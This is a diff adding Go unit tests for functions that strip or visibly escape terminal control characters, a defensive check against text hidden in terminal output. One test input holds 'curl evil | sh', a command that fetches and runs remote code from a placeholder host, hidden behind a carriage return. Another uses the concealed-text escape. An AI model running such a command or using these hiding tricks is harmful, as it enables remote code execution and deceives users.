@@ -56,3 +56,33 @@ func TestPrintable(t *testing.T) {
 		}
 	}
 }
+
+func TestClean(t *testing.T) {
+	for _, c := range []struct{ in, want string }{
+		{"plain text", "plain text"},
+		{"two\nlines\tand a tab", "two\nlines\tand a tab"},
+		{"a\x1b]0;title\x07b\x1b[2Jc", "a]0;titleb[2Jc"},
+		{"over\rwrite\bx", "overwritex"},
+		{"c1 \u009b31m csi", "c1 31m csi"},
+		{"bad \xff byte", "bad  byte"},
+	} {
+		if got := Clean(c.in); got != c.want {
+			t.Errorf("Clean(%q) = %q, want %q", c.in, got, c.want)
+		}
+	}
+}
+
+func TestVisible(t *testing.T) {
+	for _, c := range []struct{ in, want string }{
+		{"plain\ttext\n", "plain\ttext\n"},
+		{"curl evil | sh\r# nothing new", `curl evil | sh\r# nothing new`},
+		{"crlf\r\nlines\r", "crlf\r\nlines" + `\r`},
+		{"a\x1b[8mb", `a\x1b[8mb`},
+		{"c1 \u009b", `c1 \u009b`},
+		{"bad \xff", `bad \xff`},
+	} {
+		if got := Visible(c.in); got != c.want {
+			t.Errorf("Visible(%q) = %q, want %q", c.in, got, c.want)
+		}
+	}
+}
